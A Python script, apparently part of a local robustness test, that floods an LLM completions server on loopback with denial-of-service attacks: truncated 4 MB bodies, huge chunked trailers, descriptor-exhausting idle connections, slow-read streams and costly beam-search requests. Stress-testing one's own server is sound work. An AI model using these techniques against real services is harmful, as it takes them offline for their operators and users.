#!/usr/bin/env python3
"""Attacks of one client on a server, each until it is ended. Started by overload.py, from a loopback address that is not the victim's."""
import argparse
import json
import os
import random
import socket
import ssl
import threading
import time

ADDRESS = "127.0.0.2"
PROMPT = "One day, Tom and his mom went to the store."
LONG = dict(prompt=PROMPT, max_tokens=300, ignore_eos=True)
BODY_BYTES = 4 << 20  # --max_body_bytes
PAUSE_S = 0.05


class Attacker:
    def __init__(self, port, key, tls):
        self.port, self.key, self.tls = port, key, tls

    def connect(self, receive_buffer=None):
        raw = socket.socket()
        if receive_buffer:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        raw.bind((ADDRESS, 0))
        raw.connect(("127.0.0.1", self.port))
        if not self.tls:
            return raw
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        return context.wrap_socket(raw)

    def head(self, *lines, key=True):
        keyed = [f"Authorization: Bearer {self.key}"] if key else []
        return "\r\n".join(["POST /v1/completions HTTP/1.1", "Host: x", *keyed, "Content-Type: application/json", *lines, "", ""]).encode()

    def post(self, body):
        """Sends a request and reads until the server closes."""
        data = json.dumps(body).encode()
        with self.connect() as connection:
            connection.sendall(self.head(f"Content-Length: {len(data)}", "Connection: close") + data)
            while connection.recv(1 << 16):
                pass

    @staticmethod
    def by_threads(count, work):
        """Runs work(i) again and again in each of the threads."""
        def run(i):
            while True:
                try:
                    work(i)
                except OSError:
                    pass
                time.sleep(PAUSE_S)
        for i in range(count):
            threading.Thread(target=run, args=(i,), daemon=True).start()
        while True:
            time.sleep(60)

    def trailer(self):
        """A chunked body with a trailer field of 65,534 bytes and more."""
        def work(_):
            with self.connect() as connection:
                connection.settimeout(1)
                length = random.choice((65533, 65534, 65535, 65536, 1 << 20))
                connection.sendall(self.head("Transfer-Encoding: chunked", key=False) + b"2\r\n{}\r\n0\r\nX-Trailer: " + b"a" * length + b"\r\n\r\n")
                connection.recv(1000)
        self.by_threads(2, work)

    def wide(self):
        """Eight requests of width 64, which fill the rows of each step."""
        self.by_threads(8, lambda i: self.post(dict(LONG, decoding="beam_search", beam_width=64, n=64, early_stopping="never", seed=i)))

    def many(self):
        """500 requests of one key at a time."""
        self.by_threads(500, lambda i: self.post(dict(LONG, decoding="beam_sampling", beam_width=8, n=8, seed=i)))

    def huge(self):
        """Eight requests that each need much of the KV."""
        self.by_threads(8, lambda i: self.post(dict(LONG, n=64, seed=i)))

    def bodies(self):
        """250 connections without a key whose bodies of 4 MB stop before their last byte."""
        data = b'{"prompt": "' + b"a" * (BODY_BYTES - 16)

        def work(_):
            with self.connect() as connection:
                connection.settimeout(60)
                connection.sendall(self.head(f"Content-Length: {BODY_BYTES}", key=False) + data)
                connection.recv(1000)
                time.sleep(1)
        self.by_threads(250, work)

    def texts(self):
        """Forty prompts of 4 MB at a time."""
        data = b'{"prompt": "' + b"a word, " * ((BODY_BYTES - 16) // 8) + b'"}'

        def work(_):
            with self.connect() as connection:
                connection.sendall(self.head(f"Content-Length: {len(data)}", "Connection: close") + data)
                connection.recv(1000)
        self.by_threads(40, work)

    def answers(self):
        """Answers of 64 choices with 20 log-probabilities for each token."""
        self.by_threads(4, lambda i: self.post(dict(LONG, n=64, logprobs=20, seed=i)))

    def descriptors(self):
        """Idle connections, more than the server has descriptors."""
        held = []
        self.by_threads(20, lambda _: held.append(self.connect()))

    def slow(self):
        """A hundred streams that are hardly read."""
        data = json.dumps(dict(LONG, n=8, logprobs=20, stream=True)).encode()

        def work(_):
            with self.connect(receive_buffer=2048) as connection:
                connection.sendall(self.head(f"Content-Length: {len(data)}") + data)
                while connection.recv(64):
                    time.sleep(0.2)
        self.by_threads(100, work)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name")
    parser.add_argument("port", type=int)
    parser.add_argument("key")
    parser.add_argument("--tls", action="store_true")
    options = parser.parse_args()
    os.nice(10)  # the processor time that it takes is not part of the attack
    getattr(Attacker(options.port, options.key, options.tls), options.name)()


if __name__ == "__main__":
    main()
